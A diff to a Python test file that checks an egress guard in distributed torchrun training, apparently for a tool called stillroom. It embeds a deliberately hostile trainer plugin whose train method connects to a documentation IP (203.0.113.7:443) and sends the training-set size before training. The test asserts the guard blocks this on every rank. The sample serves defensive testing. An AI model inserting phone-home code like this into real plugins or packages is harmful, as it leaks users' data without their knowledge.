@@ -7,16 +7,20 @@ config with dropout off, 240 toy intent requests, gloo on this host's CPUs.
 from __future__ import annotations
 
 import json
+import os
 import socket
 import subprocess
 import sys
+from dataclasses import replace
 
 import pytest
+import yaml
 
 from stillroom.components import Context
 from stillroom.run.portable import ComponentRef
 from stillroom.run.training import StudentJob
 from tests import tinymodels as tm
+from tests.people import adopt_policy
 
 # Dropout off: each rank would draw its own masks, so only float summation order and padding width would
 # be left to differ; with dropout on (the Ray test's spec) the tolerance is wider and says why.
@@ -53,6 +57,13 @@ def epochs(records) -> list[dict]:
     return [payload for kind, payload in records if kind == "train.epoch"]
 
 
+def torchrun(job_dir, out, module="stillroom.run.torchrun", **env) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "torch.distributed.run", "--nproc_per_node", "2",
+                           "--master_addr", "127.0.0.1", "--master_port", str(free_port()),
+                           "-m", module, str(job_dir), str(out)],
+                          capture_output=True, text=True, timeout=300, env={**os.environ, **env})
+
+
 def test_the_training_job_under_torchrun_on_two_ranks_matches_one_process(workspace, tmp_path):
     from stillroom.run.executors.worker import EVIDENCE
     from stillroom.run.torchrun import write_job
@@ -60,10 +71,8 @@ def test_the_training_job_under_torchrun_on_two_ranks_matches_one_process(worksp
     job, ctx, records = job_and_context(tmp_path, workspace)
     alone = job(ctx, tmp_path / "alone")
     write_job(job, tmp_path / "job", policy=workspace.policy().model_dump(mode="json"), workspace=workspace.root)
-    ran = subprocess.run([sys.executable, "-m", "torch.distributed.run", "--nproc_per_node", "2",
-                          "--master_addr", "127.0.0.1", "--master_port", str(free_port()),
-                          "-m", "stillroom.run.torchrun", str(tmp_path / "job"), str(tmp_path / "ddp")],
-                         capture_output=True, text=True, timeout=300)
+    # the entry point, then a check that each rank's gloo threads ended with its process group
+    ran = torchrun(tmp_path / "job", tmp_path / "ddp", module="tests.torchrun_threads")
     assert ran.returncode == 0, ran.stderr[-3000:]
     evidence = json.loads((tmp_path / "ddp" / EVIDENCE).read_text())
     assert len(evidence["ranks"]) == 2 and all(rank["blocked"] == [] for rank in evidence["ranks"])
@@ -86,3 +95,75 @@ def test_torchrun_entry_point_refuses_a_directory_that_is_not_a_job(tmp_path):
     assert ran.stderr.strip() == (f"error: {tmp_path} is not a training job: it needs job.json, dataset.json and "
                                   "teacher_outputs.npz (write_job)")
     assert not (tmp_path / "out").exists()
+
+
+# An address no test host answers on (TEST-NET-3, RFC 5737) and outside every egress allowlist: were the guard
+# not armed, the connect would time out or find no route, and the outcome would name that error instead.
+PHONE_HOME = '''
+import socket
+
+from stillroom import hookimpl
+from stillroom.plugins.trainers.kd import LogitKDTrainer
+
+
+class PhoningTrainer(LogitKDTrainer):
+    """Logit KD that first tries to send the size of its training split home, and records how that went."""
+
+    name = "phoning-kd"
+
+    def train(self, student_spec, data, teacher_outputs, ctx):
+        with socket.socket() as home:
+            home.settimeout(2)
+            try:
+                home.connect(("203.0.113.7", 443))
+                home.sendall(b"%d" % len(data.train.texts))
+                outcome = "sent"
+            except OSError as exc:
+                outcome = type(exc).__name__
+        ctx.record("phoning.outcome", {"outcome": outcome})
+        return super().train(student_spec, data, teacher_outputs, ctx)
+
+
+@hookimpl
+def register_trainers(register):
+    register(PhoningTrainer)
+'''
+
+
+@pytest.fixture
+def phoning_trainer(tmp_path):
+    """A third-party trainer distribution, pip-installed into a private directory the ranks import from."""
+    source, target = tmp_path / "phoning", tmp_path / "site"
+    (source / "stillroom_phoning_trainer").mkdir(parents=True)
+    (source / "stillroom_phoning_trainer" / "__init__.py").write_text(PHONE_HOME)
+    (source / "pyproject.toml").write_text(
+        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
+        '[project]\nname = "stillroom-phoning-trainer"\nversion = "0.1.0"\n'
+        '[project.entry-points.stillroom]\nphoning-trainer = "stillroom_phoning_trainer"\n')
+    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--disable-pip-version-check", "--no-deps",
+                    "--no-build-isolation", "--target", str(target), str(source)], check=True)
+    return target
+
+
+def test_a_plugins_egress_from_a_torchrun_rank_is_refused_and_carried_back_with_node_and_plugin(
+        workspace, phoning_trainer, tmp_path):
+    from stillroom.run.executors.worker import EVIDENCE, refusals
+    from stillroom.run.torchrun import write_job
+
+    (workspace.policy_dir / "plugins.yaml").write_text(
+        yaml.safe_dump({"plugins": {"allow": [{"name": "stillroom-phoning-trainer", "version": "==0.1.0"}]}}))
+    adopt_policy(workspace)
+    job, _, _ = job_and_context(tmp_path, workspace)
+    job = replace(job, trainer=ComponentRef("trainer", "phoning-kd", {}))
+    write_job(job, tmp_path / "job", policy=workspace.policy().model_dump(mode="json"), workspace=workspace.root)
+    ran = torchrun(tmp_path / "job", tmp_path / "ddp", PYTHONPATH=str(phoning_trainer))
+    assert ran.returncode == 0, ran.stderr[-3000:]
+    evidence = json.loads((tmp_path / "ddp" / EVIDENCE).read_text())
+    # refused on both ranks, by the guard, before the connect: rank 0's outcome is in its records; rank 1's
+    # attempt in what it handed rank 0
+    assert [p for kind, p in evidence["records"] if kind == "phoning.outcome"] == [{"outcome": "EgressBlocked"}]
+    blocked = refusals(evidence, "train")
+    assert len(blocked) == 2  # one per rank
+    assert {(b["target"], b["event"], b["stage"], b["node"], b["plugin"]) for b in blocked} == \
+        {("203.0.113.7:443", "socket.connect", "train", socket.gethostname(), "stillroom_phoning_trainer")}
+    assert evidence["facts"]["files"]  # the refusal did not stop the job: the student was trained and saved
